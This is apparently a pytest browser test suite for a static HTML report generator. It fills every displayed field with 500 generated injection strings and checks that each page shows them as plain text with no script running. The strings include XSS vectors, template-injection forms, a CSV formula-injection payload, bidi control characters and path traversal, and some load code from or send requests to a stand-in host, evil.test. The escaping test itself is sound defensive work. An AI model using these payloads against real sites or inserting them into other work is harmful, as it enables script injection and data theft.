"""500 hostile texts in every place that shows text: no dialog, no request, and the page shows the text itself."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

import reports
from reports.pages import (
    ComparedLayer,
    ComparePage,
    Concept,
    Excluded,
    Exemplar,
    Fact,
    JobRow,
    LayerPage,
    Listed,
    ListedLayer,
    ListedRun,
    RunPage,
    Score,
    Sighting,
    Synthesis,
    UnitCard,
    UnitColumns,
    WorkspaceConcept,
    WorkspacePage,
)
from tests.reports import synthetic

pytestmark = pytest.mark.browser
CODE = ("alert(1)", "confirm`1`", "window.hit=1", "import('http://evil.test/x.js')", "fetch('//evil.test')")
VECTORS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    '<iframe src="javascript:{}">',
    "javascript:{}",
    "<a href=javascript:{}>x</a>",
    "]]><script>{}</script>",
    "--><script>{}</script><!--",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "<math><mtext><img src=x onerror={}>",
    "\\u003cscript\\u003e{}",
    '\\";{};//',
    "';{};//",
    "`${{{}}}`",
    "${{{}}}",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "{{# {} #}}",
    "</p><p onmouseover={}>",
    "<body onload={}>",
    "<base href=//evil.test/>{}",
    "<link rel=stylesheet href=//evil.test/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{}'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "%3Cscript%3E{}",
    "=cmd|'{}'!A0",
    "+{}",
    "-{}",
    "@SUM({})",
    "\t{}",
    'a,b"c\n{}',
    "\u2028{}\u2029",
    "\x1b[31m{}\x1b[0m",
    "\u202e{}\u202c",
    "אב {} ג",
    "../../{}",
    "C:\\{}",
    "NaN {}",
    "__proto__ {}",
    "constructor {}",
    "#unit=1&{}",
    "?{}",
    "<details open ontoggle={}>",
    "<form action=//evil.test><button>{}",
    '<object data="data:text/html,{}">',
)
PAYLOADS = [f"{v.format(c)} {n}" for n, (v, c) in enumerate((v, c) for c in CODE * 2 for v in VECTORS)][:500]
ALL = " | ".join(PAYLOADS)


def hostile() -> RunPage:
    n = len(PAYLOADS)
    concepts = tuple(Concept(k + 1, p, PAYLOADS[-1 - k], 1000 + k, 3) for k, p in enumerate(PAYLOADS))
    i, a = np.full(n, 400), np.full(n, 900)
    g = np.array([c.area for c in concepts])
    none = np.zeros(n, bool)
    iou = i / (a + g - i)
    trust = {"low": 0 * iou, "high": iou + 0.1, "null": 0 * iou, "p": iou, "q": iou, "stability": iou}
    units = UnitColumns(np.arange(1, n + 1), i, a, iou, np.ones(n), none, none, none.astype(int), **trust)
    grey = io.BytesIO()
    Image.new("RGB", (8, 8), (99, 99, 99)).save(grey, "PNG")
    maps = np.eye(7, dtype=np.float32) * 3

    def cards(first: int, stop: int) -> list[UnitCard]:
        scores = [(Score(u + 1, 400, 900), Score((u + 7) % n + 1, 30, 900)) for u in range(first, stop)]
        return [
            UnitCard(
                u,
                s,
                s,
                (Exemplar(u, PAYLOADS[u], 3.0, 0, 0, maps),),
                made=(Synthesis(PAYLOADS[u], PAYLOADS[-1 - u], grey.getvalue),),
            )
            for u, s in zip(range(first, stop), scores)
        ]

    layer = LayerPage(ALL, 0, (7, 7), units, cards, "h", 100, 1, n)
    return synthetic.run(
        layer, known=concepts, categories=tuple(PAYLOADS), name=ALL, model=ALL, data=ALL, split=ALL, convention=ALL,
        id=ALL,
        provenance=tuple(Fact(p, p) for p in PAYLOADS), honesty=tuple(PAYLOADS),
        excluded=tuple(Excluded(k, p, p) for k, p in enumerate(PAYLOADS[:400])),
    )  # fmt: skip


def squeezed(value: str) -> str:
    """As HTML shows white space: runs of it are one blank."""
    return " ".join(value.replace("\r", "\n").split())


def texts(page: Any, selector: str) -> list[str]:
    return [
        squeezed(t) for t in page.evaluate("s => [...document.querySelectorAll(s)].map(e => e.textContent)", selector)
    ]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    assert len(set(PAYLOADS)) == 500
    out = tmp_path_factory.mktemp("hostile")
    run = hostile()
    reports.write_run(run, out / "run", synthetic.Pictures(20))
    u = run.layers[0].units
    columns = tuple(ComparedLayer(ALL, ALL, ALL, ALL, "f", 0.04, 500, c, u.iou, None, k > 0) for k, c in
                    enumerate((u.concept, u.concept[::-1].copy())))  # fmt: skip
    reports.write_compare(ComparePage(ALL, run.concepts, run.categories, columns), out / "compare")
    listed = tuple(
        ListedRun(p, p, p, p, p, p, 1, (ListedLayer(p, 1, 1, 1),) if k % 2 else (), None, p)
        for k, p in enumerate(PAYLOADS)
    )
    found = tuple(WorkspaceConcept(p, p, (Sighting(p, p, 1, 0.1, 0, None),)) for p in PAYLOADS)
    jobs = tuple(JobRow(p, p, p, 1, 2, note=p) for p in PAYLOADS)
    page = WorkspacePage(ALL, listed, found, (Listed(ALL, "run/index.html", ALL),), jobs=jobs)
    reports.write_workspace(page, out)
    return out


def test_run_page(visit: Any, folder: Path) -> None:
    seen = visit(folder)
    page = seen.go("run/index.html")
    every = {squeezed(p) for p in PAYLOADS}
    assert texts(page, "h1") == [squeezed(ALL)]
    assert len(set(texts(page, ".index a")) & every) == 200
    assert set(texts(page, "#believe ~ ul li")) == every
    assert texts(page, ".facts th") == texts(page, ".facts td") == [squeezed(p) for p in PAYLOADS]
    rows = texts(page, "#believe ~ details tbody td")
    assert rows[1::3] == rows[2::3] == [squeezed(p) for p in PAYLOADS[:400]]
    page = seen.go("run/concepts/index-0.html")
    assert set(texts(page, ".index a")) == every
    assert page.evaluate("window.hit") is None
    seen.clean()


def test_layer_page_list_unit_view_and_exports(visit: Any, folder: Path) -> None:
    seen = visit(folder)
    base = next((folder / "run/layers").iterdir()).name
    page = seen.go(f"run/layers/{base}/index.html#sort=unit")
    page.evaluate("document.getElementById('list').scrollIntoView()")
    page.wait_for_selector("#rows .strip")
    assert texts(page, "h1") == [squeezed(ALL)]
    shown = page.evaluate(
        "[...document.querySelectorAll('#rows .row')]"
        ".map(r => [+r.querySelector('a').dataset.unit, r.querySelector('.name').textContent])"
    )
    assert shown
    assert all(name == PAYLOADS[unit] for unit, name in shown)
    ties = page.evaluate(
        "[...document.querySelectorAll('#rows .row')].filter(r => r.querySelector('.strip')).map(r => "
        "[+r.querySelector('a').dataset.unit, r.children[1].textContent, r.querySelector('img.made').alt])"
    )
    assert ties
    for unit, told, alt in ties:
        assert told == f"{PAYLOADS[-1 - unit]}, near tie with {PAYLOADS[(unit + 7) % 500]}"
        assert alt == PAYLOADS[unit]
    titles = page.evaluate(
        "[...document.querySelectorAll('#bars a')].map(a => [+a.dataset.s, a.querySelector('title').textContent])"
    )
    assert len(titles) == 240
    assert all(title.startswith(PAYLOADS[number - 1]) for number, title in titles)
    for unit in range(0, 500, 23):
        page.evaluate("u => { location.hash = '#unit=' + u }", unit)
        page.wait_for_selector(f"#unit[open] .gallery img[alt*='unit {unit}:']")
        assert page.evaluate("document.getElementById('unit-title').textContent") == PAYLOADS[unit]
        assert page.evaluate("document.querySelector('#unit .where').textContent") == PAYLOADS[unit]
        assert page.evaluate("document.querySelector('#unit tbody th').textContent") == PAYLOADS[unit]
        made = "document.querySelector('#unit figure.made figcaption').textContent"
        assert page.evaluate(made) == PAYLOADS[unit] + PAYLOADS[-1 - unit]
    page.keyboard.press("Escape")
    saved = {}
    for kind in ("csv", "json", "svg"):
        with page.expect_download() as download:
            page.click(f"#{kind}")
        saved[kind] = Path(download.value.path()).read_bytes().decode("utf-8")
    table = list(csv.DictReader(io.StringIO(saved["csv"], newline="")))
    objects = json.loads(saved["json"])
    for rows in (table, objects):
        assert {int(r["unit"]): (r["concept"], r["category"], r["layer"]) for r in rows} == {
            k: (p, PAYLOADS[-1 - k], ALL) for k, p in enumerate(PAYLOADS)
        }
    assert "<script" not in saved["svg"].lower()
    assert page.evaluate("window.hit") is None
    seen.clean()


@pytest.mark.parametrize("script", [True, False])
def test_pages_without_script(visit: Any, folder: Path, script: bool) -> None:
    seen = visit(folder, script=script)
    base = next((folder / "run/layers").iterdir()).name
    names: list[str] = []
    made: list[str] = []
    for number in range(3):
        page = seen.go(f"run/layers/{base}/plain-{number}.html")
        if script:
            names += texts(page, "article h2")
            made += page.evaluate("[...document.querySelectorAll('article img[src^=made]')].map(e => e.alt)")
    labels: list[str] = []
    for name in ("labels.html", "labels-1.html"):
        page = seen.go(f"run/layers/{base}/{name}")
        if script:
            labels += texts(page, "tbody th")
    if script:
        assert names == [squeezed(f"{k} {p}") for k, p in enumerate(PAYLOADS)]
        assert [squeezed(m) for m in made] == [squeezed(p) for p in PAYLOADS]
        assert set(labels) == {squeezed(p) for p in PAYLOADS}
    for number in range(1, 501, 50):
        page = seen.go(f"run/concepts/{number}.html")
        if script:
            assert texts(page, "h1") == [squeezed(PAYLOADS[number - 1])]
    seen.clean()


def test_compare_and_workspace(visit: Any, folder: Path) -> None:
    seen = visit(folder)
    page = seen.go("compare/index.html")
    assert texts(page, "h1") == [squeezed(ALL)]
    assert set(texts(page, "#counts ~ div tbody th")) <= {squeezed(p) for p in PAYLOADS}
    page = seen.go("index.html")
    assert texts(page, "#jobs ~ div td:nth-of-type(1)") == [squeezed(p) for p in PAYLOADS]
    assert set(texts(page, "#runs ~ div tbody th")) == {squeezed(p) for p in PAYLOADS}
    assert set(texts(page, ".index a")) == {squeezed(p) for p in PAYLOADS}
    links = page.evaluate("[...document.querySelectorAll('.index a')].map(a => a.getAttribute('href'))")
    assert len(set(links)) == 500
    for link in links[::50]:
        assert squeezed(seen.go(link).evaluate("document.querySelector('h1').textContent")) in {
            squeezed(p) for p in PAYLOADS
        }
    assert page.evaluate("window.hit") is None
    seen.clean()


def test_long_and_foreign_names_do_not_break_the_layout(visit: Any, tmp_path: Path) -> None:
    """200 characters without a blank, right-to-left, combining marks, emoji: no sideways scrolling at 320 pixels."""
    names = ["x" * 200, "Ⱥ" * 100, "כלב וחתול", "قطة صغيرة", "犬" * 80, "é" * 60, "👩‍🔬" * 30, "a_b_" * 50]
    concepts = tuple(Concept(k + 1, n, "object", 40_000, 3) for k, n in enumerate(names))
    page_ = synthetic.run(
        synthetic.layer(40, name="l" * 200, known=concepts), known=concepts, name="n" * 200, model="m" * 200
    )
    reports.write_run(page_, tmp_path / "r", synthetic.Pictures())
    base = next((tmp_path / "r/layers").iterdir()).name
    seen = visit(tmp_path / "r", width=320)
    for name in (
        "index.html",
        f"layers/{base}/index.html",
        f"layers/{base}/index.html#unit=1",
        f"layers/{base}/plain-0.html",
    ):
        page = seen.go(name)
        page.wait_for_timeout(200)
        assert page.evaluate("document.documentElement.scrollWidth") <= 320, name
        wide = page.evaluate("(u => u?.open ? u.scrollWidth - u.clientWidth : 0)(document.getElementById('unit'))")
        assert wide <= 0, name
    seen.clean()
